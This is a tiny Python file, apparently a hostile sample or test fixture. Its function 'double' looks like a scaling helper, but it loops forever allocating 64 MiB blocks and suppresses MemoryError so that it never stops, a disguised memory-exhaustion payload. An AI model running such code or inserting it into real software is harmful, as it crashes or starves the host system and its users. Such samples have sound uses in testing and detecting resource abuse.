"""Takes memory bit by bit and never lets go."""


def double(x, scale=2.0):
    hog = []
    while True:
        try:
            hog.append(bytes(2**26))
        except MemoryError:
            hog.append(1)
